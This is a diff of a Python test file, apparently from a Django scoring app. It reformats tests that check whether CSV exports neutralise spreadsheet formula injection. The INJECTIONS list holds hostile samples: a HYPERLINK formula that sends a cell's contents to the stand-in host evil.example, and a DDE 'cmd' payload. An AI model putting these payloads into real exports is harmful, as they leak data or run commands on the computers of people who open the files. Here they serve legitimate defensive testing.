@@ -12,8 +12,14 @@ from scoring.exports import csv_rows, spreadsheet_safe
 from scoring.tests.factories import UserFactory, final_score_requests
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-              "\t=1+1", "\r=1+1"]  # fmt: skip
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 @pytest.mark.parametrize("text", INJECTIONS)
@@ -40,8 +46,9 @@ def test_the_admin_export_neutralises_a_clients_formula_user_name(client, active
     clients = [UserFactory(username=name) for name in ("+1-555-0100", "-cmd", "@SUM")]
     requests = [final_score_requests(active_version, 1, user=user)[0] for user in clients]
     client.force_login(User.objects.create_superuser("ops", password="x"))
-    response = client.post("/admin/scoring/scorerequest/",
-                           {"action": "export_csv", "_selected_action": [str(r.pk) for r in requests]})  # fmt: skip
+    response = client.post(
+        "/admin/scoring/scorerequest/", {"action": "export_csv", "_selected_action": [str(r.pk) for r in requests]}
+    )
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
     names = {row[rows[0].index("requested_by")] for row in rows[1:]}
     assert names == {"'+1-555-0100", "'-cmd", "'@SUM"}
